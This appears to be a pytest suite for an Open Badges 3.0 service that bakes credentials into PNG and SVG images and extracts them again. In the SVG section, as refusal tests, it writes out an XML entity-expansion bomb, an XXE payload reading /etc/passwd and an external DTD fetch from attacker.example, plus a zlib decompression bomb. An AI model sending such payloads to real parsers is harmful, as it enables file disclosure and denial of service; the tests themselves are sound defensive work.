"""Open Badges 3.0 baking: a credential inside a PNG (iTXt) or an SVG (<openbadges:credential>)."""

from __future__ import annotations

import json
import struct
import zlib

import pytest
from defusedxml.ElementTree import fromstring

from service.vc.baking import (
    MAX_CREDENTIAL_BYTES,
    MAX_IMAGE_BYTES,
    bake_png,
    bake_svg,
    extract_baked,
    extract_baked_text,
    extract_from_png,
    extract_from_svg,
    looks_like_baked_image,
)
from service.vc.errors import BakingError

OB3 = "https://purl.imsglobal.org/ob/v3p0"
CREDENTIAL = {
    "@context": [
        "https://www.w3.org/ns/credentials/v2",
        "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json",
    ],
    "id": "urn:uuid:0f3a3c7e-0000-4000-8000-000000000001",
    "type": ["VerifiableCredential", "OpenBadgeCredential"],
    "issuer": {"id": "did:web:skillcred.example", "type": ["Profile"], "name": "Škillcred ✓"},
    "validFrom": "2025-01-01T00:00:00Z",
    "name": "Tricky ]]> text & <markup>",
    "credentialSubject": {"type": ["AchievementSubject"], "achievement": {"name": "Prompting"}},
}
# Signed JSON text must come back byte for byte: odd spacing, CRLF line breaks, escapes.
SIGNED_JSON_TEXT = '{\r\n  "name" : "caf\\u00e9 ]]> <x/>",\r\n  "proof": {"proofValue": "z3abc"}\r\n}\n'
JWS = "eyJhbGciOiJFZERTQSIsImtpZCI6ImtleS0xIn0.eyJ2YyI6eyJpZCI6InVybjp4In19.c2lnbmF0dXJl"
SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    "<!-- badge artwork -->\n"
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 512 512" data-note="a>b">\n'
    '  <circle cx="256" cy="256" r="200" fill="#c0ffee"/>\n'
    "</svg>\n"
)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _tiny_png(*extra_chunks: bytes) -> bytes:
    """A valid 1x1 RGB PNG built by hand (no imaging library)."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + b"".join(extra_chunks)
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


def _chunk_types(png: bytes) -> list[bytes]:
    types, offset = [], 8
    while offset < len(png):
        (length,) = struct.unpack_from(">I", png, offset)
        types.append(png[offset + 4 : offset + 8])
        offset += 12 + length
    return types


def _code(excinfo: pytest.ExceptionInfo[BakingError]) -> str:
    return excinfo.value.code


# --- PNG ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("credential", [CREDENTIAL, JWS], ids=["json", "jws"])
def test_png_round_trip(credential: dict | str) -> None:
    baked = bake_png(_tiny_png(), credential)
    assert extract_from_png(baked) == credential
    assert extract_baked(baked) == credential


def test_png_credential_is_one_uncompressed_itxt_chunk_right_before_iend() -> None:
    original = _tiny_png()
    baked = bake_png(original, JWS)
    assert _chunk_types(baked) == [b"IHDR", b"IDAT", b"iTXt", b"IEND"]
    expected_chunk = _chunk(b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00" + JWS.encode())
    assert baked == original[:-12] + expected_chunk + original[-12:]


def test_json_text_is_baked_into_png_byte_for_byte() -> None:
    baked = bake_png(_tiny_png(), SIGNED_JSON_TEXT)
    assert extract_baked_text(baked) == SIGNED_JSON_TEXT
    assert extract_from_png(baked) == json.loads(SIGNED_JSON_TEXT)


def test_rebaking_a_png_replaces_the_credential() -> None:
    once = bake_png(_tiny_png(), CREDENTIAL)
    twice = bake_png(once, JWS)
    assert extract_from_png(twice) == JWS
    assert _chunk_types(twice).count(b"iTXt") == 1
    assert twice == bake_png(_tiny_png(), JWS)


def test_other_png_chunks_and_trailing_bytes_are_kept() -> None:
    text_chunk = _chunk(b"tEXt", b"Comment\x00made by hand")
    original = _tiny_png(text_chunk) + b"trailing"
    baked = bake_png(original, JWS)
    assert text_chunk in baked and baked.endswith(_chunk(b"IEND", b"") + b"trailing")


def test_a_compressed_itxt_credential_is_read() -> None:
    text = json.dumps(CREDENTIAL)
    compressed = b"openbadgecredential\x00\x01\x00en\x00\x00" + zlib.compress(text.encode())
    assert extract_from_png(_tiny_png(_chunk(b"iTXt", compressed))) == CREDENTIAL


def test_a_compressed_itxt_bomb_is_refused() -> None:
    bomb = zlib.compress(b"{" + b" " * (MAX_CREDENTIAL_BYTES + 1))
    png = _tiny_png(_chunk(b"iTXt", b"openbadgecredential\x00\x01\x00\x00\x00" + bomb))
    with pytest.raises(BakingError) as excinfo:
        extract_from_png(png)
    assert _code(excinfo) == "too_large"


def test_a_png_without_a_credential_is_refused_with_no_credential() -> None:
    with pytest.raises(BakingError) as excinfo:
        extract_from_png(_tiny_png())
    assert _code(excinfo) == "no_credential"


def test_an_open_badges_2_png_is_named_as_such() -> None:
    legacy = _chunk(b"iTXt", b"openbadges\x00\x00\x00\x00\x00https://example.org/assertion")
    with pytest.raises(BakingError) as excinfo:
        extract_from_png(_tiny_png(legacy))
    assert _code(excinfo) == "no_credential" and "2.0" in str(excinfo.value)


def test_a_png_with_a_corrupt_crc_is_refused() -> None:
    baked = bytearray(bake_png(_tiny_png(), JWS))
    baked[-20] ^= 0x01  # a byte of the iTXt text
    with pytest.raises(BakingError) as excinfo:
        extract_from_png(bytes(baked))
    assert _code(excinfo) == "malformed_image" and "CRC" in str(excinfo.value)
    with pytest.raises(BakingError):
        bake_png(bytes(baked), JWS)


@pytest.mark.parametrize(
    "png",
    [
        pytest.param(_tiny_png()[:-12], id="no-IEND"),
        pytest.param(_tiny_png()[:40], id="truncated-chunk"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + _chunk(b"IDAT", b"") + _chunk(b"IEND", b""), id="no-IHDR"),
    ],
)
def test_a_structurally_broken_png_is_refused(png: bytes) -> None:
    with pytest.raises(BakingError) as excinfo:
        extract_from_png(png)
    assert _code(excinfo) == "malformed_image"


def test_a_png_with_two_credentials_is_refused() -> None:
    chunk = _chunk(b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00" + JWS.encode())
    with pytest.raises(BakingError) as excinfo:
        extract_from_png(_tiny_png(chunk, chunk))
    assert _code(excinfo) == "malformed_image"


def test_a_baked_text_that_is_no_credential_is_refused() -> None:
    chunk = _chunk(b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00[1, 2, 3]")
    with pytest.raises(BakingError) as excinfo:
        extract_from_png(_tiny_png(chunk))
    assert _code(excinfo) == "malformed_credential"


@pytest.mark.parametrize("credential", ["not a credential", "{not json", '{"a": NaN}', 42])
def test_baking_refuses_what_is_not_a_credential(credential: object) -> None:
    with pytest.raises(BakingError) as excinfo:
        bake_png(_tiny_png(), credential)  # type: ignore[arg-type]
    assert _code(excinfo) == "malformed_credential"


def test_oversized_images_and_credentials_are_refused() -> None:
    with pytest.raises(BakingError) as excinfo:
        bake_png(_tiny_png() + bytes(MAX_IMAGE_BYTES), JWS)
    assert _code(excinfo) == "too_large"
    with pytest.raises(BakingError) as excinfo:
        bake_png(_tiny_png(), {"name": "x" * MAX_CREDENTIAL_BYTES})
    assert _code(excinfo) == "too_large"


# --- SVG ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("credential", [CREDENTIAL, JWS], ids=["json", "jws"])
def test_svg_round_trip(credential: dict | str) -> None:
    baked = bake_svg(SVG, credential)
    assert extract_from_svg(baked) == credential
    assert extract_baked(baked.encode()) == credential


def test_svg_jws_goes_in_the_verify_attribute_of_the_first_child() -> None:
    root = fromstring(bake_svg(SVG, JWS).encode())
    first = root[0]
    assert first.tag == f"{{{OB3}}}credential"
    assert first.get("verify") == JWS and not (first.text or "").strip()


def test_svg_json_goes_in_cdata_and_the_namespace_on_the_root() -> None:
    baked = bake_svg(SVG, CREDENTIAL)
    root_tag = baked[baked.index("<svg") : baked.index(">", baked.index("a>b")) + 1]
    assert f'xmlns:openbadges="{OB3}"' in root_tag
    assert "<openbadges:credential><![CDATA[{" in baked
    assert fromstring(baked.encode())[0].get("verify") is None


def test_baking_an_svg_leaves_the_rest_of_the_text_untouched() -> None:
    baked = bake_svg(SVG, JWS)
    insert = f' xmlns:openbadges="{OB3}"'
    element = f'<openbadges:credential verify="{JWS}"></openbadges:credential>'
    expected = SVG.replace("<svg ", "<svg" + insert + " ").replace('"a>b">', '"a>b">' + element)
    assert baked == expected


def test_json_text_is_baked_into_svg_byte_for_byte() -> None:
    baked = bake_svg(SVG, SIGNED_JSON_TEXT)
    assert extract_baked_text(baked.encode()) == SIGNED_JSON_TEXT
    assert extract_from_svg(baked) == json.loads(SIGNED_JSON_TEXT)


def test_rebaking_an_svg_replaces_the_credential() -> None:
    twice = bake_svg(bake_svg(SVG, CREDENTIAL), JWS)
    assert twice == bake_svg(SVG, JWS)
    assert twice.count("openbadges:credential") == 2  # one start tag, one end tag
    assert extract_from_svg(twice) == JWS


def test_a_self_closing_svg_and_a_foreign_openbadges_prefix_are_handled() -> None:
    legacy = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"/>'
    baked = bake_svg(legacy, CREDENTIAL)
    assert extract_from_svg(baked) == CREDENTIAL
    assert 'xmlns:openbadges="http://openbadges.org"' in baked


def test_an_svg_without_a_credential_is_refused_with_no_credential() -> None:
    with pytest.raises(BakingError) as excinfo:
        extract_from_svg(SVG)
    assert _code(excinfo) == "no_credential"


ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3}">'
    "<openbadges:credential>&xxe;</openbadges:credential></svg>"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">'
    '%remote;]><svg xmlns="http://www.w3.org/2000/svg"/>'
)


@pytest.mark.parametrize(
    "svg",
    [ENTITY_BOMB, EXTERNAL_ENTITY, PARAMETER_ENTITY],
    ids=["entity-bomb", "external-entity", "external-parameter-entity"],
)
def test_svg_entities_are_refused_when_extracting_and_baking(svg: str) -> None:
    for operation in (lambda: extract_from_svg(svg), lambda: bake_svg(svg, JWS)):
        with pytest.raises(BakingError) as excinfo:
            operation()
        assert _code(excinfo) == "unsafe_xml"


@pytest.mark.parametrize(
    "svg, code",
    [
        ("<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "malformed_image"),
        ("<html xmlns='http://www.w3.org/1999/xhtml'/>", "not_an_image"),
        (
            f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:o='{OB3}'>"
            "<o:credential verify='a.b.c'/><o:credential verify='d.e.f'/></svg>",
            "malformed_image",
        ),
        (
            f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:o='{OB3}'>"
            "<o:credential><![CDATA[not json]]></o:credential></svg>",
            "malformed_credential",
        ),
    ],
    ids=["not-well-formed", "not-svg", "two-credentials", "not-a-credential"],
)
def test_broken_svgs_are_refused(svg: str, code: str) -> None:
    with pytest.raises(BakingError) as excinfo:
        extract_from_svg(svg)
    assert _code(excinfo) == code


def test_a_credential_under_any_prefix_and_padded_with_whitespace_is_found() -> None:
    credential = {**CREDENTIAL, "name": "Prompting"}
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:ob='{OB3}'>\n"
        f"  <ob:credential>\n    <![CDATA[\n{json.dumps(credential, indent=2)}\n]]>\n"
        "  </ob:credential></svg>"
    )
    assert extract_from_svg(svg) == credential
    assert bake_svg(svg, JWS).count("credential") == 2


def test_only_utf8_svgs_are_baked() -> None:
    latin1 = SVG.replace("UTF-8", "ISO-8859-1")
    with pytest.raises(BakingError) as excinfo:
        bake_svg(latin1, JWS)
    assert _code(excinfo) == "malformed_image"


# --- sniffing ----------------------------------------------------------------------------------


def test_extract_baked_refuses_data_that_is_no_image() -> None:
    for data in (b"", b"GIF89a....", json.dumps(CREDENTIAL).encode(), b"\xff\xd8\xff\xe0"):
        with pytest.raises(BakingError) as excinfo:
            extract_baked(data)
        assert _code(excinfo) == "not_an_image"


def test_looks_like_baked_image_tells_baked_images_from_others() -> None:
    assert looks_like_baked_image(bake_png(_tiny_png(), JWS))
    assert looks_like_baked_image(bake_svg(SVG, JWS).encode())
    assert not looks_like_baked_image(_tiny_png())
    assert not looks_like_baked_image(SVG.encode())
    assert not looks_like_baked_image(json.dumps(CREDENTIAL).encode())
